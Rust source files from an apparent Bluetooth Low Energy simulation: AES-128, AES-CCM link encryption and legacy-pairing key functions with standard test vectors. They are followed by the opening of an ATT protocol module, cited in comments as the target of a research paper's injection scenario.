        clippy::unwrap_used,
        clippy::expect_used,
        clippy::panic,
        clippy::cast_possible_truncation
    )
)]

mod aes;
pub mod ccm;
mod link_cipher;
pub mod pairing;

pub use aes::Aes128;
pub use ccm::{CcmError, MIC_LEN};
pub use link_cipher::{Direction, LinkCipher, SessionKeyMaterial};
