//! AES-128 block cipher (FIPS-197).
//!
//! BLE security uses AES-128 in ECB (the `e` security function), CCM (link
//! encryption) and CMAC (LE Secure Connections, not needed here). Only
//! encryption is required — CCM's decryption path also uses the forward
//! cipher.

/// The AES S-box.
const SBOX: [u8; 256] = [
    0x63, 0x7c, 0x77, 0x7b, 0xf2, 0x6b, 0x6f, 0xc5, 0x30, 0x01, 0x67, 0x2b, 0xfe, 0xd7, 0xab, 0x76,
    0xca, 0x82, 0xc9, 0x7d, 0xfa, 0x59, 0x47, 0xf0, 0xad, 0xd4, 0xa2, 0xaf, 0x9c, 0xa4, 0x72, 0xc0,
    0xb7, 0xfd, 0x93, 0x26, 0x36, 0x3f, 0xf7, 0xcc, 0x34, 0xa5, 0xe5, 0xf1, 0x71, 0xd8, 0x31, 0x15,
    0x04, 0xc7, 0x23, 0xc3, 0x18, 0x96, 0x05, 0x9a, 0x07, 0x12, 0x80, 0xe2, 0xeb, 0x27, 0xb2, 0x75,
    0x09, 0x83, 0x2c, 0x1a, 0x1b, 0x6e, 0x5a, 0xa0, 0x52, 0x3b, 0xd6, 0xb3, 0x29, 0xe3, 0x2f, 0x84,
    0x53, 0xd1, 0x00, 0xed, 0x20, 0xfc, 0xb1, 0x5b, 0x6a, 0xcb, 0xbe, 0x39, 0x4a, 0x4c, 0x58, 0xcf,
    0xd0, 0xef, 0xaa, 0xfb, 0x43, 0x4d, 0x33, 0x85, 0x45, 0xf9, 0x02, 0x7f, 0x50, 0x3c, 0x9f, 0xa8,
    0x51, 0xa3, 0x40, 0x8f, 0x92, 0x9d, 0x38, 0xf5, 0xbc, 0xb6, 0xda, 0x21, 0x10, 0xff, 0xf3, 0xd2,
    0xcd, 0x0c, 0x13, 0xec, 0x5f, 0x97, 0x44, 0x17, 0xc4, 0xa7, 0x7e, 0x3d, 0x64, 0x5d, 0x19, 0x73,
    0x60, 0x81, 0x4f, 0xdc, 0x22, 0x2a, 0x90, 0x88, 0x46, 0xee, 0xb8, 0x14, 0xde, 0x5e, 0x0b, 0xdb,
    0xe0, 0x32, 0x3a, 0x0a, 0x49, 0x06, 0x24, 0x5c, 0xc2, 0xd3, 0xac, 0x62, 0x91, 0x95, 0xe4, 0x79,
    0xe7, 0xc8, 0x37, 0x6d, 0x8d, 0xd5, 0x4e, 0xa9, 0x6c, 0x56, 0xf4, 0xea, 0x65, 0x7a, 0xae, 0x08,
    0xba, 0x78, 0x25, 0x2e, 0x1c, 0xa6, 0xb4, 0xc6, 0xe8, 0xdd, 0x74, 0x1f, 0x4b, 0xbd, 0x8b, 0x8a,
    0x70, 0x3e, 0xb5, 0x66, 0x48, 0x03, 0xf6, 0x0e, 0x61, 0x35, 0x57, 0xb9, 0x86, 0xc1, 0x1d, 0x9e,
    0xe1, 0xf8, 0x98, 0x11, 0x69, 0xd9, 0x8e, 0x94, 0x9b, 0x1e, 0x87, 0xe9, 0xce, 0x55, 0x28, 0xdf,
    0x8c, 0xa1, 0x89, 0x0d, 0xbf, 0xe6, 0x42, 0x68, 0x41, 0x99, 0x2d, 0x0f, 0xb0, 0x54, 0xbb, 0x16,
];

const ROUND_CONSTANTS: [u8; 10] = [0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1b, 0x36];

fn xtime(b: u8) -> u8 {
    (b << 1) ^ (if b & 0x80 != 0 { 0x1b } else { 0 })
}

/// S-box lookup; a `u8` index is always in range for the 256-entry table.
fn sbox(b: u8) -> u8 {
    SBOX[usize::from(b) % 256]
}

/// An AES-128 encryption context with a pre-expanded key schedule.
///
/// # Example
///
/// ```
/// use ble_crypto::Aes128;
/// // FIPS-197 Appendix C.1 vector.
/// let key = [
///     0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07,
///     0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x0e, 0x0f,
/// ];
/// let cipher = Aes128::new(&key);
/// let pt = [
///     0x00, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x77,
///     0x88, 0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff,
/// ];
/// let ct = cipher.encrypt_block(&pt);
/// assert_eq!(ct[0], 0x69);
/// assert_eq!(ct[15], 0x5a);
/// ```
#[derive(Clone)]
pub struct Aes128 {
    round_keys: [[u8; 16]; 11],
}

impl std::fmt::Debug for Aes128 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Never print key material.
        f.debug_struct("Aes128")
            .field("key", &"<redacted>")
            .finish()
    }
}

impl Aes128 {
    /// Expands `key` into the round-key schedule.
    pub fn new(key: &[u8; 16]) -> Self {
        let mut round_keys = [[0u8; 16]; 11];
        round_keys[0] = *key;
        let mut prev = *key;
        for (rk_slot, rcon) in round_keys.iter_mut().skip(1).zip(ROUND_CONSTANTS) {
            let mut word = [prev[12], prev[13], prev[14], prev[15]];
            // RotWord + SubWord + Rcon.
            word.rotate_left(1);
            for b in &mut word {
                *b = sbox(*b);
            }
            word[0] ^= rcon;
            // Each 4-byte output word is the matching word of the previous
            // round key XOR the previous output word (the transformed last
            // word for the first one).
            let mut rk = [0u8; 16];
            let mut carry = word;
            for (chunk, prev_chunk) in rk.chunks_mut(4).zip(prev.chunks(4)) {
                for ((dst, &p), &c) in chunk.iter_mut().zip(prev_chunk).zip(&carry) {
                    *dst = p ^ c;
                }
                carry.copy_from_slice(chunk);
            }
            *rk_slot = rk;
            prev = rk;
        }
        Aes128 { round_keys }
    }

    /// Encrypts one 16-byte block.
    pub fn encrypt_block(&self, block: &[u8; 16]) -> [u8; 16] {
        let mut state = *block;
        add_round_key(&mut state, &self.round_keys[0]);
        for rk in &self.round_keys[1..10] {
            sub_bytes(&mut state);
            shift_rows(&mut state);
            mix_columns(&mut state);
            add_round_key(&mut state, rk);
        }
        sub_bytes(&mut state);
        shift_rows(&mut state);
        add_round_key(&mut state, &self.round_keys[10]);
        state
    }
}

fn add_round_key(state: &mut [u8; 16], rk: &[u8; 16]) {
    for (s, k) in state.iter_mut().zip(rk) {
        *s ^= k;
    }
}

fn sub_bytes(state: &mut [u8; 16]) {
    for b in state.iter_mut() {
        *b = sbox(*b);
    }
}

/// State is column-major: byte `i` is row `i % 4`, column `i / 4`.
fn shift_rows(state: &mut [u8; 16]) {
    let s = *state;
    for (i, b) in state.iter_mut().enumerate() {
        let (col, row) = (i / 4, i % 4);
        // Row `r` rotates left by `r` columns; row 0 maps to itself.
        *b = s[((col + row) % 4) * 4 + row];
    }
}

fn mix_columns(state: &mut [u8; 16]) {
    for chunk in state.chunks_mut(4) {
        let a = [chunk[0], chunk[1], chunk[2], chunk[3]];
        chunk[0] = xtime(a[0]) ^ (xtime(a[1]) ^ a[1]) ^ a[2] ^ a[3];
        chunk[1] = a[0] ^ xtime(a[1]) ^ (xtime(a[2]) ^ a[2]) ^ a[3];
        chunk[2] = a[0] ^ a[1] ^ xtime(a[2]) ^ (xtime(a[3]) ^ a[3]);
        chunk[3] = (xtime(a[0]) ^ a[0]) ^ a[1] ^ a[2] ^ xtime(a[3]);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(s: &str) -> Vec<u8> {
        (0..s.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
            .collect()
    }

    fn block(s: &str) -> [u8; 16] {
        hex(s).try_into().unwrap()
    }

    #[test]
    fn fips197_appendix_c1() {
        let cipher = Aes128::new(&block("000102030405060708090a0b0c0d0e0f"));
        let ct = cipher.encrypt_block(&block("00112233445566778899aabbccddeeff"));
        assert_eq!(ct.to_vec(), hex("69c4e0d86a7b0430d8cdb78070b4c55a"));
    }

    #[test]
    fn nist_sp800_38a_ecb_vectors() {
        let cipher = Aes128::new(&block("2b7e151628aed2a6abf7158809cf4f3c"));
        let cases = [
            (
                "6bc1bee22e409f96e93d7e117393172a",
                "3ad77bb40d7a3660a89ecaf32466ef97",
            ),
            (
                "ae2d8a571e03ac9c9eb76fac45af8e51",
                "f5d3d58503b9699de785895a96fdbaaf",
            ),
            (
                "30c81c46a35ce411e5fbc1191a0a52ef",
                "43b1cd7f598ece23881b00e3ed030688",
            ),
            (
                "f69f2445df4f9b17ad2b417be66c3710",
                "7b0c785e27e8ad3f8223207104725dd4",
            ),
        ];
        for (pt, expected) in cases {
            assert_eq!(
                cipher.encrypt_block(&block(pt)).to_vec(),
                hex(expected),
                "{pt}"
            );
        }
    }

    #[test]
    fn all_zero_key_and_block() {
        // Well-known AES-128(0,0) value.
        let cipher = Aes128::new(&[0u8; 16]);
        let ct = cipher.encrypt_block(&[0u8; 16]);
        assert_eq!(ct.to_vec(), hex("66e94bd4ef8a2c3b884cfa59ca342b2e"));
    }

    #[test]
    fn encryption_is_deterministic_and_key_sensitive() {
        let c1 = Aes128::new(&[1u8; 16]);
        let c2 = Aes128::new(&[2u8; 16]);
        let pt = [7u8; 16];
        assert_eq!(c1.encrypt_block(&pt), c1.encrypt_block(&pt));
        assert_ne!(c1.encrypt_block(&pt), c2.encrypt_block(&pt));
    }

    #[test]
    fn debug_does_not_leak_key() {
        let c = Aes128::new(&[0x42; 16]);
        let s = format!("{c:?}");
        assert!(s.contains("redacted"));
        assert!(!s.contains("42"));
    }
}
