//! AES-CCM authenticated encryption (RFC 3610), parameterised for BLE.
//!
//! BLE link encryption (Core Spec Vol 6, Part E) uses CCM with a 2-byte
//! length field (`L = 2`, hence 13-byte nonces) and a 4-byte MIC (`M = 4`).
//! The functions here take `M` as a parameter so the RFC 3610 test vectors
//! (which use `M = 8`) can validate the implementation directly.

use ble_invariants::{lsb16, lsb8};

use crate::aes::Aes128;

/// Length of the BLE message integrity check, in bytes.
pub const MIC_LEN: usize = 4;

/// Length of a CCM nonce with `L = 2`.
pub const NONCE_LEN: usize = 13;

/// Error returned when CCM decryption fails authentication.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CcmError;

impl std::fmt::Display for CcmError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "message integrity check failed")
    }
}

impl std::error::Error for CcmError {}

/// XORs `src` into the front of `x` (stops at the shorter of the two).
fn xor_into(x: &mut [u8; 16], src: &[u8]) {
    for (x_byte, s) in x.iter_mut().zip(src) {
        *x_byte ^= s;
    }
}

/// Computes the CBC-MAC over the CCM-formatted blocks.
fn cbc_mac(
    cipher: &Aes128,
    nonce: &[u8; NONCE_LEN],
    aad: &[u8],
    payload: &[u8],
    mic_len: usize,
) -> [u8; 16] {
    // B0: flags | nonce | message length (L = 2 bounds the length field, so
    // the masked encoding below is exact for every valid CCM payload).
    let mut b0 = [0u8; 16];
    let adata = u8::from(!aad.is_empty());
    let m_enc = lsb8((mic_len.saturating_sub(2) / 2) as u64);
    b0[0] = (adata << 6) | (m_enc << 3) | 0x01; // L' = L-1 = 1
    b0[1..14].copy_from_slice(nonce);
    b0[14..16].copy_from_slice(&lsb16(payload.len() as u64).to_be_bytes());

    let mut x = cipher.encrypt_block(&b0);

    // Additional authenticated data, prefixed with its 2-byte length
    // (BLE AAD is a single header byte, far below the 0xFEFF limit).
    if !aad.is_empty() {
        assert!(aad.len() < 0xFF00, "AAD too long for simple encoding");
        let mut block = [0u8; 16];
        block[..2].copy_from_slice(&lsb16(aad.len() as u64).to_be_bytes());
        // First block carries up to 14 AAD bytes after the length prefix.
        let take = aad.len().min(14);
        for (dst, &src) in block[2..].iter_mut().zip(aad) {
            *dst = src;
        }
        xor_into(&mut x, &block);
        x = cipher.encrypt_block(&x);
        for chunk in aad.get(take..).unwrap_or(&[]).chunks(16) {
            xor_into(&mut x, chunk);
            x = cipher.encrypt_block(&x);
        }
    }

    // Payload blocks.
    for chunk in payload.chunks(16) {
        xor_into(&mut x, chunk);
        x = cipher.encrypt_block(&x);
    }
    x
}

/// The CTR-mode keystream block `S_i` for counter `i`.
fn ctr_block(cipher: &Aes128, nonce: &[u8; NONCE_LEN], counter: u16) -> [u8; 16] {
    let mut a = [0u8; 16];
    a[0] = 0x01; // flags: L' = 1
    a[1..14].copy_from_slice(nonce);
    a[14..16].copy_from_slice(&counter.to_be_bytes());
    cipher.encrypt_block(&a)
}

/// Encrypts `payload` and appends a `mic_len`-byte MIC.
///
/// # Example
///
/// ```
/// use ble_crypto::{ccm, Aes128};
/// let cipher = Aes128::new(&[7u8; 16]);
/// let nonce = [0u8; 13];
/// let sealed = ccm::encrypt(&cipher, &nonce, b"\x02", b"hello", 4);
/// assert_eq!(sealed.len(), 5 + 4);
/// let opened = ccm::decrypt(&cipher, &nonce, b"\x02", &sealed, 4).unwrap();
/// assert_eq!(opened, b"hello");
/// ```
pub fn encrypt(
    cipher: &Aes128,
    nonce: &[u8; NONCE_LEN],
    aad: &[u8],
    payload: &[u8],
    mic_len: usize,
) -> Vec<u8> {
    let mut out = Vec::with_capacity(payload.len() + mic_len);
    out.extend_from_slice(payload);
    let mic = encrypt_in_place(cipher, nonce, aad, &mut out, mic_len);
    out.extend_from_slice(mic.get(..mic_len).unwrap_or(&[]));
    out
}

/// Encrypts `payload` in place and returns the MIC block; the caller
/// appends its first `mic_len` bytes (the rest is zero). The allocation-free
/// core of [`encrypt`], used directly on the frame hot path.
pub fn encrypt_in_place(
    cipher: &Aes128,
    nonce: &[u8; NONCE_LEN],
    aad: &[u8],
    payload: &mut [u8],
    mic_len: usize,
) -> [u8; 16] {
    assert!(
        (4..=16).contains(&mic_len) && mic_len.is_multiple_of(2),
        "CCM MIC length must be an even value in 4..=16"
    );
    let tag = cbc_mac(cipher, nonce, aad, payload, mic_len);
    // Encrypt payload with counters 1..; counter 0 encrypts the MIC.
    xor_keystream(cipher, nonce, payload);
    let s0 = ctr_block(cipher, nonce, 0);
    let mut mic = [0u8; 16];
    for ((m, t), k) in mic.iter_mut().zip(tag.iter()).zip(s0.iter()).take(mic_len) {
        *m = t ^ k;
    }
    mic
}

/// XORs the CTR keystream (counters 1..) over `data` — its own inverse.
fn xor_keystream(cipher: &Aes128, nonce: &[u8; NONCE_LEN], data: &mut [u8]) {
    for (i, chunk) in data.chunks_mut(16).enumerate() {
        let ks = ctr_block(cipher, nonce, lsb16((i + 1) as u64));
        for (b, k) in chunk.iter_mut().zip(ks.iter()) {
            *b ^= k;
        }
    }
}

/// Decrypts and authenticates a CCM message produced by [`encrypt`].
///
/// # Errors
///
/// Returns [`CcmError`] if the message is shorter than the MIC or the MIC
/// does not verify (tampered ciphertext, wrong key, wrong nonce or AAD).
pub fn decrypt(
    cipher: &Aes128,
    nonce: &[u8; NONCE_LEN],
    aad: &[u8],
    sealed: &[u8],
    mic_len: usize,
) -> Result<Vec<u8>, CcmError> {
    let mut buf = sealed.to_vec();
    let n = decrypt_in_place(cipher, nonce, aad, &mut buf, mic_len)?;
    buf.truncate(n);
    Ok(buf)
}

/// Decrypts `sealed` (ciphertext followed by the MIC) in place. On success
/// the plaintext occupies `sealed[..returned_len]`; on MIC failure the
/// buffer is restored to the original ciphertext and an error is returned.
/// The allocation-free core of [`decrypt`], used directly on the frame hot
/// path.
///
/// # Errors
///
/// Returns [`CcmError`] if the message is shorter than the MIC or the MIC
/// does not verify (tampered ciphertext, wrong key, wrong nonce or AAD).
pub fn decrypt_in_place(
    cipher: &Aes128,
    nonce: &[u8; NONCE_LEN],
    aad: &[u8],
    sealed: &mut [u8],
    mic_len: usize,
) -> Result<usize, CcmError> {
    if sealed.len() < mic_len {
        return Err(CcmError);
    }
    let split = sealed.len() - mic_len;
    let (ciphertext, mic) = sealed.split_at_mut(split);
    xor_keystream(cipher, nonce, ciphertext);
    let tag = cbc_mac(cipher, nonce, aad, ciphertext, mic_len);
    let s0 = ctr_block(cipher, nonce, 0);
    // Constant-time-ish comparison (simulation grade).
    let mut diff = 0u8;
    for ((t, k), m) in tag.iter().zip(s0.iter()).take(mic_len).zip(mic.iter()) {
        diff |= (t ^ k) ^ m;
    }
    if diff == 0 {
        Ok(split)
    } else {
        // Undo the keystream so the caller keeps the original ciphertext.
        xor_keystream(cipher, nonce, ciphertext);
        Err(CcmError)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hex(s: &str) -> Vec<u8> {
        let s: String = s.chars().filter(|c| !c.is_whitespace()).collect();
        (0..s.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
            .collect()
    }

    /// RFC 3610 Packet Vector #1: M=8, L=2.
    #[test]
    fn rfc3610_packet_vector_1() {
        let key: [u8; 16] = hex("C0C1C2C3C4C5C6C7C8C9CACBCCCDCECF").try_into().unwrap();
        let nonce: [u8; 13] = hex("00000003020100A0A1A2A3A4A5").try_into().unwrap();
        let aad = hex("0001020304050607");
        let payload = hex("08090A0B0C0D0E0F101112131415161718191A1B1C1D1E");
        let cipher = Aes128::new(&key);
        let sealed = encrypt(&cipher, &nonce, &aad, &payload, 8);
        let expected = hex("588C979A61C663D2F066D0C2C0F989806D5F6B61DAC38417E8D12CFDF926E0");
        assert_eq!(sealed, expected);
        assert_eq!(decrypt(&cipher, &nonce, &aad, &sealed, 8).unwrap(), payload);
    }

    /// RFC 3610 Packet Vector #2.
    #[test]
    fn rfc3610_packet_vector_2() {
        let key: [u8; 16] = hex("C0C1C2C3C4C5C6C7C8C9CACBCCCDCECF").try_into().unwrap();
        let nonce: [u8; 13] = hex("00000004030201A0A1A2A3A4A5").try_into().unwrap();
        let aad = hex("0001020304050607");
        let payload = hex("08090A0B0C0D0E0F101112131415161718191A1B1C1D1E1F");
        let cipher = Aes128::new(&key);
        let sealed = encrypt(&cipher, &nonce, &aad, &payload, 8);
        let expected = hex("72C91A36E135F8CF291CA894085C87E3CC15C439C9E43A3BA091D56E10400916");
        assert_eq!(sealed, expected);
    }

    /// RFC 3610 Packet Vector #3.
    #[test]
    fn rfc3610_packet_vector_3() {
        let key: [u8; 16] = hex("C0C1C2C3C4C5C6C7C8C9CACBCCCDCECF").try_into().unwrap();
        let nonce: [u8; 13] = hex("00000005040302A0A1A2A3A4A5").try_into().unwrap();
        let aad = hex("0001020304050607");
        let payload = hex("08090A0B0C0D0E0F101112131415161718191A1B1C1D1E1F20");
        let cipher = Aes128::new(&key);
        let sealed = encrypt(&cipher, &nonce, &aad, &payload, 8);
        let expected = hex("51B1E5F44A197D1DA46B0F8E2D282AE871E838BB64DA8596574ADAA76FBD9FB0C5");
        assert_eq!(sealed, expected);
    }

    #[test]
    fn roundtrip_various_lengths_with_ble_mic() {
        let cipher = Aes128::new(&[0x42; 16]);
        let nonce = [0x13; 13];
        for len in [0usize, 1, 15, 16, 17, 31, 32, 33, 100, 251] {
            let payload: Vec<u8> = (0..len).map(|i| i as u8).collect();
            let sealed = encrypt(&cipher, &nonce, &[0x03], &payload, MIC_LEN);
            assert_eq!(sealed.len(), len + MIC_LEN);
            let opened = decrypt(&cipher, &nonce, &[0x03], &sealed, MIC_LEN).unwrap();
            assert_eq!(opened, payload, "len {len}");
        }
    }

    #[test]
    fn tampering_is_detected() {
        let cipher = Aes128::new(&[0x42; 16]);
        let nonce = [0x13; 13];
        let sealed = encrypt(&cipher, &nonce, &[0x02], b"attack at dawn", MIC_LEN);
        for byte in 0..sealed.len() {
            let mut bad = sealed.clone();
            bad[byte] ^= 0x80;
            assert_eq!(
                decrypt(&cipher, &nonce, &[0x02], &bad, MIC_LEN),
                Err(CcmError),
                "tamper at byte {byte} undetected"
            );
        }
    }

    #[test]
    fn wrong_aad_nonce_or_key_fails() {
        let cipher = Aes128::new(&[0x42; 16]);
        let nonce = [0x13; 13];
        let sealed = encrypt(&cipher, &nonce, &[0x02], b"payload", MIC_LEN);
        assert!(decrypt(&cipher, &nonce, &[0x06], &sealed, MIC_LEN).is_err());
        let mut other_nonce = nonce;
        other_nonce[0] ^= 1;
        assert!(decrypt(&cipher, &other_nonce, &[0x02], &sealed, MIC_LEN).is_err());
        let other_key = Aes128::new(&[0x43; 16]);
        assert!(decrypt(&other_key, &nonce, &[0x02], &sealed, MIC_LEN).is_err());
    }

    #[test]
    fn too_short_message_rejected() {
        let cipher = Aes128::new(&[0x42; 16]);
        assert_eq!(
            decrypt(&cipher, &[0; 13], &[], &[1, 2], MIC_LEN),
            Err(CcmError)
        );
    }

    #[test]
    fn empty_payload_produces_mic_only() {
        let cipher = Aes128::new(&[0x42; 16]);
        let nonce = [0u8; 13];
        let sealed = encrypt(&cipher, &nonce, &[0x01], &[], MIC_LEN);
        assert_eq!(sealed.len(), MIC_LEN);
        assert_eq!(
            decrypt(&cipher, &nonce, &[0x01], &sealed, MIC_LEN).unwrap(),
            Vec::<u8>::new()
        );
    }

    #[test]
    #[should_panic(expected = "MIC length")]
    fn invalid_mic_length_panics() {
        let cipher = Aes128::new(&[0; 16]);
        let _ = encrypt(&cipher, &[0; 13], &[], b"x", 3);
    }
}
