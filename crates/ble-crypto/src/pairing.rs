//! BLE legacy-pairing cryptographic functions (Core Spec Vol 3, Part H).
//!
//! The minimal Security Manager in `ble-host` uses these to provision a
//! Long-Term Key for the encrypted-connection countermeasure experiments:
//!
//! * [`c1`] — the *confirm value generation* function, binding the pairing
//!   random value to the pairing requests and device addresses;
//! * [`s1`] — the *key generation* function producing the Short-Term Key
//!   from both sides' random values.
//!
//! (These legacy functions are famously weak — CRACKLE brute-forces the TK —
//! which the paper cites as prior art; weakness is irrelevant for our use:
//! we only need interoperable key agreement inside the simulation.)

use crate::aes::Aes128;

/// The security function `e`: AES-128 encryption of one block.
pub fn e(key: &[u8; 16], plaintext: &[u8; 16]) -> [u8; 16] {
    Aes128::new(key).encrypt_block(plaintext)
}

fn xor16(a: &[u8; 16], b: &[u8; 16]) -> [u8; 16] {
    let mut out = [0u8; 16];
    for ((o, &x), &y) in out.iter_mut().zip(a).zip(b) {
        *o = x ^ y;
    }
    out
}

/// The confirm value generation function `c1`.
///
/// `k` is the temporary key, `r` the pairing random value, `preq`/`pres`
/// the 7-byte Pairing Request/Response PDUs, `iat`/`rat` the initiating and
/// responding address types (0 public, 1 random), and `ia`/`ra` the 6-byte
/// device addresses.
///
/// Defined as `e(k, e(k, r ⊕ p1) ⊕ p2)` with
/// `p1 = pres || preq || rat' || iat'` and `p2 = 0⁴ || ia || ra`
/// (little-endian concatenation order).
#[allow(clippy::too_many_arguments)]
pub fn c1(
    k: &[u8; 16],
    r: &[u8; 16],
    preq: &[u8; 7],
    pres: &[u8; 7],
    iat: u8,
    rat: u8,
    ia: &[u8; 6],
    ra: &[u8; 6],
) -> [u8; 16] {
    // p1 = pres || preq || rat' || iat' — little-endian: iat' is the least
    // significant octet.
    let mut p1 = [0u8; 16];
    p1[0] = iat & 1;
    p1[1] = rat & 1;
    p1[2..9].copy_from_slice(preq);
    p1[9..16].copy_from_slice(pres);
    // p2 = padding || ia || ra — little-endian: ra is least significant.
    let mut p2 = [0u8; 16];
    p2[0..6].copy_from_slice(ra);
    p2[6..12].copy_from_slice(ia);
    let inner = e(k, &xor16(r, &p1));
    e(k, &xor16(&inner, &p2))
}

/// The key generation function `s1`.
///
/// Produces the Short-Term Key from the temporary key `k` and both pairing
/// randoms: `s1(k, r1, r2) = e(k, r1' || r2')` where `r1'`/`r2'` are the
/// least significant 8 octets of each random value.
pub fn s1(k: &[u8; 16], r1: &[u8; 16], r2: &[u8; 16]) -> [u8; 16] {
    let mut r = [0u8; 16];
    // Little-endian convention: r2' occupies the least significant half.
    r[0..8].copy_from_slice(&r2[0..8]);
    r[8..16].copy_from_slice(&r1[0..8]);
    e(k, &r)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn c1_is_deterministic_and_sensitive_to_every_input() {
        let k = [1u8; 16];
        let r = [2u8; 16];
        let preq = [3u8; 7];
        let pres = [4u8; 7];
        let ia = [5u8; 6];
        let ra = [6u8; 6];
        let base = c1(&k, &r, &preq, &pres, 0, 1, &ia, &ra);
        assert_eq!(base, c1(&k, &r, &preq, &pres, 0, 1, &ia, &ra));

        let mut k2 = k;
        k2[0] ^= 1;
        assert_ne!(base, c1(&k2, &r, &preq, &pres, 0, 1, &ia, &ra));
        let mut r2 = r;
        r2[15] ^= 1;
        assert_ne!(base, c1(&k, &r2, &preq, &pres, 0, 1, &ia, &ra));
        let mut preq2 = preq;
        preq2[3] ^= 1;
        assert_ne!(base, c1(&k, &r, &preq2, &pres, 0, 1, &ia, &ra));
        let mut pres2 = pres;
        pres2[6] ^= 1;
        assert_ne!(base, c1(&k, &r, &preq, &pres2, 0, 1, &ia, &ra));
        assert_ne!(base, c1(&k, &r, &preq, &pres, 1, 1, &ia, &ra));
        assert_ne!(base, c1(&k, &r, &preq, &pres, 0, 0, &ia, &ra));
        let mut ia2 = ia;
        ia2[0] ^= 1;
        assert_ne!(base, c1(&k, &r, &preq, &pres, 0, 1, &ia2, &ra));
        let mut ra2 = ra;
        ra2[5] ^= 1;
        assert_ne!(base, c1(&k, &r, &preq, &pres, 0, 1, &ia, &ra2));
    }

    #[test]
    fn c1_matches_manual_composition() {
        // Independent recomputation of the e(k, e(k, r^p1)^p2) structure.
        let k = [9u8; 16];
        let r = [7u8; 16];
        let preq = [0xAA; 7];
        let pres = [0xBB; 7];
        let ia = [0xCC; 6];
        let ra = [0xDD; 6];
        let mut p1 = [0u8; 16];
        p1[0] = 1;
        p1[1] = 0;
        p1[2..9].copy_from_slice(&preq);
        p1[9..16].copy_from_slice(&pres);
        let mut p2 = [0u8; 16];
        p2[0..6].copy_from_slice(&ra);
        p2[6..12].copy_from_slice(&ia);
        let inner = e(&k, &xor16(&r, &p1));
        let expected = e(&k, &xor16(&inner, &p2));
        assert_eq!(expected, c1(&k, &r, &preq, &pres, 1, 0, &ia, &ra));
    }

    #[test]
    fn s1_uses_low_halves_of_both_randoms() {
        let k = [1u8; 16];
        let mut r1 = [0u8; 16];
        let mut r2 = [0u8; 16];
        r1[..8].copy_from_slice(&[1, 2, 3, 4, 5, 6, 7, 8]);
        r2[..8].copy_from_slice(&[9, 10, 11, 12, 13, 14, 15, 16]);
        let base = s1(&k, &r1, &r2);
        // Changing the *high* half of either random must not matter.
        r1[12] ^= 0xFF;
        r2[9] ^= 0xFF;
        assert_eq!(base, s1(&k, &r1, &r2));
        // Changing the low half must matter.
        r1[0] ^= 1;
        assert_ne!(base, s1(&k, &r1, &r2));
    }

    #[test]
    fn both_sides_derive_the_same_stk() {
        // Initiator and responder run s1 with the same inputs: same STK.
        let tk = [0u8; 16]; // Just Works: TK = 0.
        let mrand = [0x55; 16];
        let srand = [0x66; 16];
        assert_eq!(s1(&tk, &srand, &mrand), s1(&tk, &srand, &mrand));
    }
}
