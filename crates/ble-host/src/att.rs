//! The Attribute Protocol (ATT).
//!
//! The paper's scenario A is literally "injecting *ATT Requests* … to
//! interact with the ATT server, which is used in BLE as a generic
//! application layer" (§VI-A). These are the PDUs being forged.

use crate::uuid::Uuid;

/// ATT error codes (subset).
pub mod error_code {
    /// The attribute handle is invalid.
    pub const INVALID_HANDLE: u8 = 0x01;
    /// The attribute cannot be read.
    pub const READ_NOT_PERMITTED: u8 = 0x02;
    /// The attribute cannot be written.
    pub const WRITE_NOT_PERMITTED: u8 = 0x03;
    /// The request is not supported.
    pub const REQUEST_NOT_SUPPORTED: u8 = 0x06;
    /// No attribute found within the given range.
    pub const ATTRIBUTE_NOT_FOUND: u8 = 0x0A;
    /// The attribute value has an invalid length.
    pub const INVALID_ATTRIBUTE_VALUE_LENGTH: u8 = 0x0D;
}

/// A decoded ATT PDU.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttPdu {
    /// Error Response (0x01).
    ErrorResponse {
        /// Opcode of the request that failed.
        request_opcode: u8,
        /// Handle the failure relates to.
        handle: u16,
        /// One of [`error_code`].
        code: u8,
    },
    /// Exchange MTU Request (0x02).
    ExchangeMtuRequest {
        /// Client receive MTU.
        mtu: u16,
    },
    /// Exchange MTU Response (0x03).
    ExchangeMtuResponse {
        /// Server receive MTU.
        mtu: u16,
    },
    /// Read By Group Type Request (0x10) — primary service discovery.
    ReadByGroupTypeRequest {
        /// First handle of the range.
        start: u16,
        /// Last handle of the range.
        end: u16,
        /// The group type (0x2800 for primary services).
        group_type: Uuid,
    },
    /// Read By Group Type Response (0x11).
    ReadByGroupTypeResponse {
        /// Length of each entry.
        entry_len: u8,
        /// Concatenated (handle, end handle, value) entries.
        data: Vec<u8>,
    },
    /// Read By Type Request (0x08) — characteristic discovery.
    ReadByTypeRequest {
        /// First handle of the range.
        start: u16,
        /// Last handle of the range.
        end: u16,
        /// The attribute type.
        attribute_type: Uuid,
    },
    /// Read By Type Response (0x09).
    ReadByTypeResponse {
        /// Length of each entry.
        entry_len: u8,
        /// Concatenated (handle, value) entries.
        data: Vec<u8>,
    },
    /// Read Request (0x0A).
    ReadRequest {
        /// Handle to read.
        handle: u16,
    },
    /// Read Response (0x0B).
    ReadResponse {
        /// The attribute value.
        value: Vec<u8>,
    },
    /// Write Request (0x12) — acknowledged write.
    WriteRequest {
        /// Handle to write.
        handle: u16,
        /// The value.
        value: Vec<u8>,
    },
    /// Write Response (0x13).
    WriteResponse,
    /// Write Command (0x52) — unacknowledged write.
    WriteCommand {
        /// Handle to write.
        handle: u16,
        /// The value.
        value: Vec<u8>,
    },
    /// Handle Value Notification (0x1B).
    Notification {
        /// Source handle.
        handle: u16,
        /// The value.
        value: Vec<u8>,
    },
    /// Handle Value Indication (0x1D).
    Indication {
        /// Source handle.
        handle: u16,
        /// The value.
